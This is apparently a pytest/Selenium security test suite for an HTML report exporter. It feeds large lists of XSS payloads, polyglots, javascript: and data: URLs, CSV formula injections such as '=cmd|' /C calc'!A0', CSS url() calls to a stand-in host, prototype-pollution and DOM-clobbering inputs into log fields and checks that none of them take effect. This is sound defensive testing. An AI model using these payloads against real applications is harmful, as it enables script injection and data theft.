"""No log value becomes markup, script, link or request; hidden characters are shown."""

import csv
import io
import json
import re
from dataclasses import fields, replace

import polars as pl
import pytest
import storm
from driving import Open, clean, wait
from selenium import webdriver
from selenium.webdriver.common.by import By
from test_html_links import noted

from timeline.export.html import Report
from timeline.export.html.report import Made

pytestmark = pytest.mark.browser
# What log fields can carry, by public classes of attack; each one, if it worked, would set `hit`, call out, or change the page.
ELEMENTS = [
    "<script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>", "<script src=//198.51.100.7/x.js></script>", "<script\x0d\x0a>window.hit=1</script>", "<<script>window.hit=1//<</script>",
    "<img src=x onerror=window.hit=1>", "<img/src='x'/onerror=window.hit=1>", "<svg/onload=window.hit=1>", "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.hit=1</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>", "\"><iframe srcdoc='<script>parent.hit=1</script>'>", "<iframe src=javascript:parent.hit=1>", "<object data=data:text/html,<script>parent.hit=1</script>>", "<embed src=//198.51.100.7>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>", "<math href=javascript:window.hit=1>x</math>", "<details open ontoggle=window.hit=1>", "<video><source onerror=window.hit=1>", "<audio src=x onerror=window.hit=1>",
    "<body onload=window.hit=1>", "<input autofocus onfocus=window.hit=1>", "<marquee onstart=window.hit=1>", "<select autofocus onfocus=window.hit=1>", "<dialog open onclose=window.hit=1>", "<button popovertarget=x onclick=window.hit=1>", "<xss onpointerrawupdate=window.hit=1 style=display:block>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>", "<template><script>window.hit=1</script></template>", "<template shadowrootmode=open><script>window.hit=1</script></template>", "<a href='javascript:window.hit=1'>click</a>", '<a href="https://198.51.100.7/" ping="https://198.51.100.7/">x</a>',
    "<base href=//198.51.100.7>", "<meta http-equiv=refresh content='0;url=//198.51.100.7'>", "<link rel=stylesheet href=//198.51.100.7/x.css>", "<link rel=prefetch href=//198.51.100.7>", "<form action=//198.51.100.7><input name=x></form>",
]  # fmt: skip
ENDS = [
    "</script><script>window.hit=1</script>", "</script ><img src=x onerror=window.hit=1>", "<!--<script>", "<!--", "-->", "--!><img src=x onerror=window.hit=1>", "<![CDATA[", "]]>", "<?php window.hit=1 ?>", "</title><script>window.hit=1</script>", "</style><script>window.hit=1</script>", "</textarea><script>window.hit=1</script>",
    "</template><script>window.hit=1</script>", "</noscript><script>window.hit=1</script>", "' autofocus onfocus='window.hit=1", '" onmouseover="window.hit=1', "`onmouseover=window.hit=1", "'-window.hit=1-'", "\\';window.hit=1//", '";window.hit=1;//', "\u2028window.hit=1\u2029", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e", "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;img src=x onerror=window.hit=1&#62;", "%3Cscript%3Ewindow.hit=1%3C/script%3E", "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.hit=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.hit=1//>\\x3e",
]  # fmt: skip
ADDRESSES = ["javascript:window.hit=1", "JaVaScRiPt:window.hit=1", "java\tscript:window.hit=1", "data:text/html,<script>window.hit=1</script>", "vbscript:msgbox(1)", "//198.51.100.7/", "https://198.51.100.7/x", "file:///etc/passwd", "blob:null/x"]  # fmt: skip
TEMPLATES = ["${window.hit=1}", "{{constructor.constructor('window.hit=1')()}}", "<%= 7*7 %>", "#{7*7}", "{{7*7}}", "[[window.hit=1]]", "%{x}<extra><a href='http://198.51.100.7'>", "%{x|%d}", "$\\href{javascript:window.hit=1}{x}$", "<b>bold</b><br><sup>x</sup>"]  # fmt: skip
STYLES = ["<b style='background:url(http://198.51.100.7/x)'>", "<style>*{display:none}</style>", "<style>@import '//198.51.100.7/x.css';</style>", "url(http://198.51.100.7/)", "};*{display:none}", "expression(window.hit=1)", "red;background:url(//198.51.100.7)", "--x:url(//198.51.100.7)", "\\3c style\\3e"]  # fmt: skip
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://198.51.100.7","x")',
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
UNSEEN = ["abc\u202egnp.exe", "\u2066hidden\u2069\u200b", "\u200e\u200f\u061c", "\ufeff", "\x1b[31mred\x07\x00", "\x1b]8;;http://198.51.100.7\x07x\x1b]8;;\x07", "\x00", "\x08\x7f\x9b", "a\nb\r\nc", "\u00ad\u034f\u3164\uffa0", "\U000e0041\U000e0042", "Z" + "\u0335\u0321" * 40, "\ud7ff\ue000\uffff", "\U0001f469\u200d\U0001f4bb"]  # fmt: skip
NAMES = ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__", "then", "length", "null", "undefined", "NaN", '{"__proto__":{"polluted":1}}', "constructor.prototype.polluted=1"]  # fmt: skip
CLOBBERS = ["<form id=data-case><input name=textContent></form>", "<a id=view><a id=view name=report href=//198.51.100.7>", "<img name=getElementById>", "data-case", "detail", "search", "grid", "row-0", "<input id=attributes name=nodeName>"]  # fmt: skip
LONG = ["é" * 3000 + "x" * 20_000, "A" * 5_000 + "\n" + " " * 2_000 + "B", "<" * 2_000, "((((" * 1_000 + "a" * 30 + "!"]
ATTACKS = ELEMENTS + ENDS + ADDRESSES + TEMPLATES + STYLES + FORMULAS + UNSEEN + NAMES + CLOBBERS + LONG
HIDDEN = re.compile("[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
STRANGE = 'img,iframe,object,embed,base,form,link,video,audio,marquee,xss,math,foreignObject,animate,textarea,template:not([id]),meta[http-equiv=refresh],a:not([href^="#"])'
NOISE = (
    f"[...document.querySelectorAll('{STRANGE}'), ...[...document.querySelectorAll('*')].filter((one) =>"
    " [...one.attributes].some((its) => its.name.startsWith('on') || /javascript:|198\\.51\\.100\\.7/i.test(its.name === 'title' || its.name.startsWith('aria-') || its.name === 'value' ? '' : its.value))"
    " || (one.id && !/^[A-Za-z0-9_.-]+$/.test(one.id)))].map((one) => one.outerHTML.slice(0, 200))"
)


def test_its_policy_allows_no_inline_script_no_eval_and_no_network(opened: Open) -> None:
    page = opened(storm.report(0))
    policy = page.find_element(By.CSS_SELECTOR, "meta[http-equiv]").get_attribute("content") or ""
    assert policy.startswith("default-src 'none'")
    assert "unsafe" not in policy
    got = page.execute_async_script(  # later, because the driver's own call is free of the policy
        "const done = arguments[0]; setTimeout(() => {"
        "const script = document.createElement('script'); script.textContent = 'window.hit = 1'; document.head.append(script);"
        "let evaluated = true; try { (0, eval)('1') } catch (error) { evaluated = false } done([window.hit ?? null, evaluated]) })"
    )
    assert got == [None, False]
    fetched = page.execute_async_script(
        "const done = arguments[0]; fetch('http://198.51.100.7/').then(() => done('sent'), () => done('refused'))"
    )
    assert fetched == "refused"


TIMES = {"time", "start", "end", "first", "last", "earliest", "latest", "deadline", "taken", "event_id", "file_id"}


def grown(frame: pl.DataFrame) -> pl.DataFrame:
    """As many rows as there are attacks, so that each attack stands once in each column."""
    times = -(-len(ATTACKS) // max(1, frame.height))
    return pl.concat([frame] * times).head(max(frame.height, len(ATTACKS))) if frame.height else frame


def poisoned(frame: pl.DataFrame, shift: int) -> pl.DataFrame:
    """Every text of a frame replaced by attacks, those in lists of rows too; words of fixed lists are no exception."""
    frame = grown(frame)
    for offset, name in enumerate(frame.columns):
        words = [ATTACKS[(row + offset + shift) % len(ATTACKS)] for row in range(frame.height)]
        kind = frame[name].dtype
        if name in TIMES or name == "events":
            continue
        if kind == pl.String:
            frame = frame.with_columns(pl.Series(name, words))
        elif kind == pl.List(pl.String):
            frame = frame.with_columns(pl.Series(name, [[word] for word in words]))
        elif isinstance(kind, pl.List) and isinstance(kind.inner, pl.Struct):
            text = [field.name for field in kind.inner.fields if field.dtype == pl.String and field.name not in TIMES]
            rows = [
                [
                    {**inner, **dict.fromkeys(text, ATTACKS[(row + place) % len(ATTACKS)])}
                    for place, inner in enumerate(listed or [])
                ]
                for row, listed in enumerate(frame[name].to_list())
            ]
            frame = frame.with_columns(pl.Series(name, rows, dtype=kind))
    return frame


def hostile(report: Report) -> Report:
    """Every word of every frame and field of a report replaced by attacks."""
    frames = {
        one.name: poisoned(getattr(report, one.name), shift)
        for shift, one in enumerate(fields(report))
        if isinstance(getattr(report, one.name), pl.DataFrame)
    }
    frames["streams"] = pl.DataFrame({"stream": ATTACKS, "source": ATTACKS, "family": ATTACKS})
    some = (
        frames["verdicts"]
        .with_row_index()
        .with_columns(verdict=pl.when(pl.col("index") % 2 == 0).then(pl.lit("found")).otherwise("verdict"))
    )
    frames["verdicts"] = some.drop("index")
    frames["notes_made"] = frames["notes_made"].with_columns(
        kind=pl.Series([("event", "gap", "view")[row % 3] for row in range(frames["notes_made"].height)]),
        target=pl.Series([(report.events["event_id"][row], gap_key(frames["gaps"], row), f"find={ATTACKS[row % len(ATTACKS)]}")[row % 3] for row in range(frames["notes_made"].height)]),
    )  # fmt: skip
    words = {
        "title": "".join(ATTACKS[:40]),
        "notes": "\n".join(ATTACKS),
        "fingerprint": ATTACKS[0],
        "versions": {name: name for name in ATTACKS},
        "made": Made(focus=tuple(ATTACKS)),
    }
    return replace(report, **{**frames, **words})  # type: ignore[arg-type]


def gap_key(gaps: pl.DataFrame, row: int) -> str:
    gap = gaps.row(row % gaps.height, named=True)
    start = "" if gap["start"] is None else str(int(gap["start"].timestamp() * 1_000_000))
    return "~".join((gap["stream"], gap["scope"] or "", gap["state"], start))


def harmless(page: webdriver.Chrome) -> None:
    """No attack ran, became an element or an attribute, or reached what all objects inherit."""
    got = page.execute_script(
        f"return [window.hit ?? null, ({{}}).polluted ?? null, Object.keys(Object.prototype).length, {NOISE}]"
    )
    assert got == [None, None, 0, []]


def test_no_log_value_becomes_markup_script_link_or_request(opened: Open) -> None:
    page = opened(hostile(noted(storm.report(400))))
    harmless(page)
    for mode in ("zone", "actor", "stream"):
        page.execute_script("setMode(arguments[0])", mode)
    for attack in range(len(ATTACKS)):
        page.execute_script("showEvent(arguments[0])", attack)
        wait(lambda: page.execute_script("return !byId('detail').textContent.includes('Unpacking the record')"))
    harmless(page)
    page.execute_script("view.report.gaps.forEach(showGap); showSeveral([0, 1, 2, 3], view.report.gaps)")
    page.execute_script("view.report.verdicts.forEach(showVerdict)")
    page.execute_script(
        "view.lanes.forEach((lane, place) => byId('tip').replaceChildren(...hintOf({ lane: place, time: view.low + 9e15, height: 0, reach: 1e16 })))"
    )
    harmless(page)
    clean(page)


@pytest.mark.parametrize("width", [320, 1440])
def test_no_log_value_breaks_the_page_out_of_its_screen(opened: Open, width: int) -> None:
    page = opened(hostile(noted(storm.report(100))), width)
    wide = "return [document.documentElement.scrollWidth, byId('detail').scrollWidth - byId('detail').clientWidth]"
    shown = page.execute_script("return document.documentElement.clientWidth")
    assert page.execute_script(wide) == [shown, 0]
    for act in (
        "showEvent(arguments[0])",
        "showGap(view.report.gaps[arguments[0]])",
        "showVerdict(view.report.verdicts[arguments[0]])",
    ):
        for place in (0, len(ATTACKS) - 4, len(ATTACKS) - 1):
            page.execute_script(act, place)
            assert (act, place, page.execute_script(wide)) == (act, place, [shown, 0])


def test_no_filter_copy_link_or_print_wakes_an_attack(opened: Open) -> None:
    page = opened(hostile(noted(storm.report(400))))
    page.execute_script(
        "chooseColumns(); [...view.events.columns.keys()].forEach((name) => { if (name !== 'block' && name !== 'named') openFilter(name); })"
    )
    harmless(page)
    page.execute_script("closeSmall()")
    for start in range(0, len(ATTACKS), 10):
        page.execute_script(
            "for (const attack of arguments[0]) {"
            " for (const name of ['event', 'gap', 'verdict', 'record']) followLink(`${name}=${encodeURIComponent(attack)}`);"
            " followLink(['find', 'where', 'zone', 'range', 'sort', 'mark'].map((name) => `${name}=${encodeURIComponent(attack)}`).join('&'));"
            " filterBy('actor', attack); announce(visible(attack)); } clearFilters(); refilter(); closePanel()",
            ATTACKS[start : start + 10],
        )
    harmless(page)
    assert page.execute_script("return clock.zone") == "UTC"
    text, table = page.execute_script(
        "const all = [...Array(view.events.rows).keys()].map(exported); return [jsonOf(all), csvOf(all)]"
    )
    assert not HIDDEN.search(text + table.replace("\r\n", ""))
    assert {row["actor"] for row in json.loads(text) if "actor" in row} >= set(NAMES)
    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    assert [cell for cell in cells if re.match(r"\s*[=+@\uff1d]|\s*-(?!\d+$)", cell)] == []
    page.execute_script("dispatchEvent(new Event('beforeprint'))")
    harmless(page)
    page.execute_script("dispatchEvent(new Event('afterprint'))")
    clean(page)


def test_hidden_characters_are_shown_everywhere(opened: Open) -> None:
    page = opened(hostile(noted(storm.report(200))))
    page.execute_script("openFilter('actor'); showEvent(40)")
    hidden = page.execute_script(
        "return [...document.body.querySelectorAll('*:not(script)')].flatMap((one) => [...one.childNodes, ...[...one.attributes].filter((its) => /title|aria/.test(its.name))]).filter((one) => (one.nodeType === 3 || one.nodeType === 2) && new RegExp(arguments[0], 'u').test(one.data ?? one.value)).map((one) => (one.data ?? one.value).slice(0, 80))",
        HIDDEN.pattern,
    )
    assert hidden == []
    assert "\\u202e" in page.execute_script("return document.body.textContent")
    assert "\u241b" in page.execute_script("return byId('mast').textContent")
